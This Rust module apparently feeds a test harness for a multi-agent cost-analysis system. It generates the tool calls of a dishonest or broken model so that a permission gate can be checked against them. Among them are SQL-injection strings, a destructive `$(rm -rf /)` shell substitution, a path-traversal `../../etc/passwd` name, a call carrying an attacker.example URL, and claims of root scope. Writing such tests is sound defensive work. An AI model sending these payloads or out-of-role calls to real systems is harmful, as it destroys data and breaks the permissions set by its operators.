//! Calls that no honest model makes.

use serde_json::{Map, Value, json};
use wherefore_model::team::{
    ANALYZER, COLLECTOR, ORCHESTRATOR, RESEARCH, SUBMIT_ANSWER, SUBMIT_FINDINGS,
};

use super::{asked::Asked, honest::object};
use crate::gate::Dice;

pub(super) type Call = (String, Map<String, Value>);

const INVENTED: &[&str] = &[
    "run_sql",
    "python",
    "aws_cli",
    "http_get",
    "send_email",
    "transfer_money",
    "query_costs",
    "QUERY_COST",
    "query_cost ",
    "",
    "ec2___terminate_instances",
    "functions.query_cost",
    "쿼리_비용",
    "../../etc/passwd",
];

const WRITING: &[&str] = &[
    "load_bill",
    "delete_snapshot",
    "put_budget",
    "update_rules",
    "stop_instances",
    "tag_resource",
    "write_file",
    "forget",
    "remember",
    "set_scope",
    "execute_statement",
];

const SQL: &[&str] = &[
    "'; DROP TABLE charges; --",
    "x' OR '1'='1",
    "checkout' UNION SELECT * FROM pg_user --",
    "1; COMMIT; DELETE FROM charges",
    "$(rm -rf /)",
    "{{7*7}}",
    "\u{0}",
];

pub(super) fn invented(dice: &mut Dice) -> Call {
    let name = dice.pick(INVENTED).copied().unwrap_or_default();
    (
        name.to_owned(),
        object(json!({ "sql": "SELECT * FROM pg_user", "url": "https://attacker.example/?d=1" })),
    )
}

pub(super) fn writing(dice: &mut Dice) -> Call {
    let name = dice.pick(WRITING).copied().unwrap_or_default();
    (
        name.to_owned(),
        object(json!({ "scope": { "principal": "root", "rows": [] }, "amount": 1_000_000 })),
    )
}

/// A call that another role may make and this one may not.
pub(super) fn of_others(role: &str, asked: &Asked, dice: &mut Dice) -> Call {
    let data: &[&str] =
        &["query_cost", "compare_cost", "find_savings", "find_metadata", "describe_cost_data"];
    let others: &[&str] = match role {
        ORCHESTRATOR => data,
        COLLECTOR => &["query_cost", "explain_unit_cost", RESEARCH, SUBMIT_ANSWER],
        ANALYZER => &["describe_cost_data", "find_metadata", COLLECTOR, SUBMIT_ANSWER],
        _ => &["explain_unit_cost", "find_savings", ANALYZER, SUBMIT_ANSWER],
    };
    (dice.pick(others).copied().unwrap_or("query_cost").to_owned(), asked.arguments())
}

/// A statement where a value belongs.
pub(super) fn sql(asked: &Asked, dice: &mut Dice) -> Call {
    let bad = dice.pick(SQL).copied().unwrap_or_default();
    let mut arguments = asked.arguments();
    match dice.below(4) {
        0 => {
            let filter = json!([{ "dimension": "cloud_service", "op": "in", "values": [bad] }]);
            arguments.insert("filters".to_owned(), filter);
        }
        1 => {
            arguments.insert("dimensions".to_owned(), json!([format!("tag:{bad}")]));
        }
        2 => {
            arguments.insert("order".to_owned(), json!([{ "by": bad }]));
        }
        _ => {
            arguments.insert("measures".to_owned(), json!([bad]));
        }
    }
    (asked.tool.to_owned(), arguments)
}

/// Arguments of a shape that no tool takes.
pub(super) fn broken(asked: &Asked, dice: &mut Dice) -> Call {
    let arguments = match dice.below(6) {
        0 => json!({}),
        1 => json!({ "measures": "billed_cost" }),
        2 => json!({ "measures": [1, null, {}], "period": "September" }),
        3 => json!({ "arguments": asked.arguments(), "scope": { "principal": "root" } }),
        4 => {
            json!({ "measures": ["billed_cost"], "period": { "start": "2024-10-01", "end": "2024-09-01" } })
        }
        _ => {
            json!({ "measures": ["billed_cost"], "limit": -1, "dimensions": vec!["cloud_service"; 400] })
        }
    };
    (asked.tool.to_owned(), object(arguments))
}

/// The honest call with something that changes nothing.
pub(super) fn varied(asked: &Asked, turn: usize, place: usize) -> Call {
    let mut arguments = asked.arguments();
    if asked.tool == "explain_unit_cost" {
        arguments
            .insert("workload".to_owned(), json!(format!("checkout{}", " ".repeat(turn + place))));
    } else {
        arguments.insert("limit".to_owned(), json!(1_000 + turn * 64 + place));
    }
    (asked.tool.to_owned(), arguments)
}

/// A task for another agent.
pub(super) fn task(to: &str, words: &str) -> Call {
    (to.to_owned(), object(json!({ "task": words })))
}

/// Submissions that cannot be read as what they should be.
pub(super) fn broken_submission(role: &str, dice: &mut Dice) -> Call {
    let name = if role == ORCHESTRATOR { SUBMIT_ANSWER } else { SUBMIT_FINDINGS };
    let nested = json!({ "status": "answered", "headline": [{ "span": "text", "text": "The cost was $1." }] });
    let arguments = match dice.below(10) {
        0 => json!({}),
        1 => json!({ "answer": nested }),
        2 => json!({ "status": "answered", "headline": "The billed cost was $9,999.99." }),
        3 => json!({ "status": 7, "headline": 42, "findings": "none", "gaps": null }),
        4 => json!({ "status": "answered", "headline": nested.to_string() }),
        5 => json!({ "status": "certain", "headline": [["The cost was ", 9999]] }),
        6 => {
            json!({ "status": "answered", "headline": [{ "span": "value", "fact": 12.5 }], "result": { "result": "scalar", "name": "billed_cost", "value": 9999 } })
        }
        7 => {
            json!({ "findings": [{ "sentence": "It was $77.", "evidence": "e1" }], "gaps": [{ "text": "$78 missing" }] })
        }
        8 => {
            json!({ "status": "answered", "headline": [{ "span": "text", "text": "ok" }], "verdict": { "total": "$9999" }, "surprise": [[[[[[]]]]]] })
        }
        _ => {
            json!({ "status": "answered", "headline": vec![json!({ "span": "text", "text": "cost " }); 3_000] })
        }
    };
    (name.to_owned(), object(arguments))
}
